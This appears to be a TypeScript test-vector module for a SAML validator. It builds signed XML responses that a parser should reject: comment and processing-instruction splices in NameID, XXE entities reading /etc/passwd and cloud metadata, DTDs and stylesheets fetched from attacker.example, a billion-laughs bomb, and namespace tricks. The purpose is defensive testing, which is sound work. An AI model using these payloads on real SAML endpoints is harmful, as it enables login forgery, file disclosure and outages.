/** Texts that two parsers could read differently: constructs and namespaces that signatures leave out, and what is no XML at all. */

import { bad, type Vector } from './case.ts'
import { assertion, assertionId, response } from './document.ts'
import type { Material } from './material.ts'
import { samlNs, samlpNs } from './names.ts'
import { evilMail, genuineMail, issuer } from './occasion.ts'
import { signAs, signedBoth } from './signed.ts'
import { afterIssuer, changed, insert } from './text.ts'

function constructs(material: Material): Vector[] {
  const forbidden = (name: string, about: string, xml: string) => bad(name, 'forbidden_construct', about, xml)
  const genuine = signedBoth(material)
  const suffixed = signedBoth(material, { mail: `${evilMail}.attacker.example` })
  const prefixed = signedBoth(material, { mail: `not-${evilMail}` })
  const entity = (declaration: string, use: string) =>
    `<!DOCTYPE Response [${declaration}]>${changed(genuine, genuineMail, use)}`
  const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  const digest = /<DigestValue>/g
  return [
    forbidden(
      'comment-in-name-id',
      'A comment cuts the NameID for readers of its first text (Duo 2018); the signature stays true.',
      changed(suffixed, `${evilMail}.attacker.example</NameID>`, `${evilMail}<!-- -->.attacker.example</NameID>`)
    ),
    forbidden(
      'comment-in-issuer',
      'A comment in the Issuer; the signature stays true.',
      genuine.replaceAll(`>${issuer}</Issuer>`, `>${issuer}<!-- --></Issuer>`)
    ),
    forbidden(
      'comment-in-digest-value',
      'A comment with another digest inside DigestValue (SAMLStorm, CVE-2025-29775).',
      genuine.replace(digest, '<DigestValue><!--47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=-->')
    ),
    forbidden(
      'comment-in-audience',
      'A comment in the Audience.',
      changed(genuine, '</Audience>', '<!--x--></Audience>')
    ),
    forbidden('comment-before-root', 'A comment before the root.', `<!-- x -->${genuine}`),
    forbidden('comment-after-root', 'A comment after the root.', `${genuine}<!-- x -->`),
    forbidden(
      'processing-instruction-in-name-id',
      'An instruction that xml-crypto renders as text: <?p not-?> has the digest of "not-" (OneUptime 2988).',
      changed(prefixed, `>not-${evilMail}</NameID>`, `><?p not-?>${evilMail}</NameID>`)
    ),
    forbidden(
      'processing-instruction-before-root',
      'A style sheet for the message.',
      `<?xml-stylesheet type="text/xsl" href="https://attacker.example/x.xsl"?>${genuine}`
    ),
    forbidden(
      'cdata-in-name-id',
      'CDATA in the NameID; the signature stays true.',
      changed(genuine, `${genuineMail}</NameID>`, `<![CDATA[${genuineMail}]]></NameID>`)
    ),
    forbidden(
      'cdata-with-markup',
      'CDATA with a forged assertion.',
      changed(genuine, '</Audience>', `<![CDATA[${assertion({ mail: evilMail })}]]></Audience>`)
    ),
    forbidden('doctype', 'An empty document type.', `<!DOCTYPE Response>${genuine}`),
    forbidden('entity-internal', 'The NameID as an entity.', entity(`<!ENTITY who "${evilMail}">`, '&who;')),
    forbidden(
      'entity-external-file',
      'A file of the server as an entity (XXE).',
      entity('<!ENTITY who SYSTEM "file:///etc/passwd">', '&who;')
    ),
    forbidden(
      'entity-external-url',
      'An address as an entity (XXE).',
      entity('<!ENTITY who SYSTEM "http://169.254.169.254/latest/meta-data/">', '&who;')
    ),
    forbidden(
      'entity-parameter',
      'A parameter entity.',
      entity('<!ENTITY % x SYSTEM "https://attacker.example/x.dtd"> %x;', evilMail)
    ),
    forbidden(
      'entity-bomb',
      'Entities that grow tenfold each (billion laughs).',
      entity(`<!ENTITY l0 "lol">${laughs}`, '&l10;')
    ),
    forbidden(
      'attribute-default',
      'A document type that gives every element an ID.',
      `<!DOCTYPE Response [<!ATTLIST Audience ID CDATA "${assertionId}">]>${genuine}`
    ),
    forbidden('xml-1.1', 'XML 1.1, in which other characters end lines.', `<?xml version="1.1"?>${genuine}`),
    forbidden('declaration-late', 'An XML declaration that is not at the start.', `\n<?xml version="1.0"?>${genuine}`)
  ]
}

function wellFormedness(material: Material): Vector[] {
  const genuine = signedBoth(material)
  const malformed = (name: string, about: string, xml: string) => bad(name, 'malformed', about, xml)
  const inNameId = (text: string) => changed(genuine, `${genuineMail}</NameID>`, `${text}</NameID>`)
  const control = (name: string, about: string, text: string) => bad(name, 'control_chars', about, inNameId(text))
  return [
    malformed('text-before-root', 'Text before the root.', `x${genuine}`),
    malformed('text-after-root', 'Text after the root.', `${genuine}x`),
    malformed('two-roots', 'A second root.', `${genuine}${genuine}`),
    malformed('truncated', 'The end is missing.', genuine.slice(0, -10)),
    malformed(
      'crossed-tags',
      'Tags that cross.',
      changed(genuine, '</Audience></AudienceRestriction>', '</AudienceRestriction></Audience>')
    ),
    malformed('end-tag-in-other-case', 'An end tag in other letters.', changed(genuine, '</Audience>', '</audience>')),
    malformed(
      'attribute-twice',
      'The same attribute twice.',
      changed(genuine, ' Version="2.0"', ' Version="1.0" Version="2.0"')
    ),
    malformed(
      'attribute-without-quotes',
      'An attribute without quotes.',
      changed(genuine, ' Version="2.0"', ' Version=2.0')
    ),
    malformed(
      'attribute-with-less-than',
      'A < in an attribute.',
      changed(genuine, ' Version="2.0"', ' Version="2.0" Consent="<"')
    ),
    malformed('bare-ampersand', 'An & alone.', inNameId('alice&bob@corp.example')),
    malformed('html-entity', 'An entity of HTML.', inNameId('alice&nbsp;@corp.example')),
    malformed('reference-to-surrogate', 'A character reference to half a character.', inNameId('alice&#xD800;')),
    malformed('reference-beyond-unicode', 'A character reference to no character.', inNameId('alice&#x110000;')),
    malformed('cdata-end-in-text', 'A ]]> in text.', inNameId('alice]]>')),
    malformed('no-element', 'No element.', 'a sentence'),
    malformed('byte-order-mark', 'A byte order mark is text before the root.', `\uFEFF${genuine}`),
    control('reference-to-null', 'A reference to the character 0.', 'alice&#0;@corp.example'),
    control('reference-to-escape', 'A reference to a control character.', 'alice&#x1b;@corp.example'),
    control('null', 'The character 0.', 'alice\u0000@corp.example'),
    control('next-line', 'U+0085, which ends a line for XML 1.1 alone.', 'alice\u0085@corp.example'),
    control('line-separator', 'U+2028, which ends a line for XML 1.1 alone.', 'alice\u2028@corp.example'),
    control('noncharacter', 'U+FFFF, which is no character.', 'alice\uFFFF@corp.example')
  ]
}

function namespaceTricks(material: Material): Vector[] {
  const { idp } = material
  const genuine = signedBoth(material)
  const shape = 'response_shape'
  const signed = (xml: string) => signAs('both', xml, { key: idp })
  const oneOne = (xml: string) => xml.replaceAll('SAML:2.0', 'SAML:1.0')
  return [
    bad(
      'xmlns-like-attribute',
      'malformed',
      'An attribute that begins like a declaration: canonicalizers leave it out, so it is not signed.',
      changed(genuine, '<NameID ', `<NameID xmlnsFormat="${evilMail}" `)
    ),
    bad(
      'xmlns-like-attribute-dotted',
      'malformed',
      'The same with a dot.',
      changed(genuine, ' Version="2.0"', ' xmlns.ID="_x" Version="2.0"')
    ),
    bad(
      'undeclared-prefix',
      'malformed',
      'A prefix that nothing declares.',
      changed(genuine, '<NameID ', '<NameID u:x="1" ')
    ),
    bad(
      'xml-prefix-redeclared',
      'malformed',
      'The prefix xml for something else.',
      changed(genuine, '<NameID ', `<NameID xmlns:xml="${samlNs}" `)
    ),
    bad(
      'xmlns-prefix-declared',
      'malformed',
      'The prefix xmlns declared.',
      changed(genuine, '<NameID ', `<NameID xmlns:xmlns="${samlNs}" `)
    ),
    bad(
      'prefix-undeclared',
      'malformed',
      'A prefix declared away, as XML 1.1 allows.',
      changed(genuine, '<NameID ', '<NameID xmlns:samlp="" ')
    ),
    bad(
      'relative-namespace',
      'malformed',
      'A relative namespace, which canonicalizers refuse and then render as nothing (The Fragile Lock).',
      changed(genuine, '<NameID ', '<NameID xmlns:r="1" ')
    ),
    bad(
      'attribute-twice-by-namespace',
      'malformed',
      'The same attribute under two prefixes.',
      changed(genuine, '<NameID ', '<NameID xmlns:a="urn:a:b" xmlns:b="urn:a:b" a:x="1" b:x="2" ')
    ),
    bad(
      'signature-namespace-shadowed',
      'signature_place',
      'A Signature of another namespace beside the genuine one.',
      insert(genuine, afterIssuer(genuine, assertionId), `<Signature xmlns="${samlNs}"/>`)
    ),
    bad(
      'response-in-foreign-namespace',
      shape,
      'The response in a namespace of another’s.',
      genuine.replaceAll(samlpNs, 'urn:example:protocol')
    ),
    bad(
      'response-without-namespace',
      shape,
      'The response in no namespace.',
      signed(response(assertion()).replaceAll('samlp:', '').replace(` xmlns:samlp="${samlpNs}"`, ''))
    ),
    bad('response-saml-1.1', shape, 'A response of SAML 1.1.', oneOne(genuine)),
    bad(
      'assertion-in-foreign-namespace',
      shape,
      'The assertion in a namespace of another’s.',
      signed(
        response(
          assertion().replaceAll(samlNs, 'urn:example:assertion').replace('<Issuer>', `<Issuer xmlns="${samlNs}">`)
        )
      )
    ),
    bad(
      'assertion-saml-1.1',
      shape,
      'An assertion of SAML 1.1 in a response of 2.0.',
      signed(response(assertion({ declarations: ' xmlns="urn:oasis:names:tc:SAML:1.0:assertion"' })))
    ),
    bad(
      'name-id-in-foreign-namespace',
      shape,
      'The NameID in a namespace of another’s, truly signed.',
      signed(response(assertion({ nameId: `<NameID xmlns="urn:example:x">${evilMail}</NameID>` })))
    )
  ]
}

export const xmlAttacks = (material: Material): readonly Vector[] => [
  ...constructs(material),
  ...wellFormedness(material),
  ...namespaceTricks(material)
]
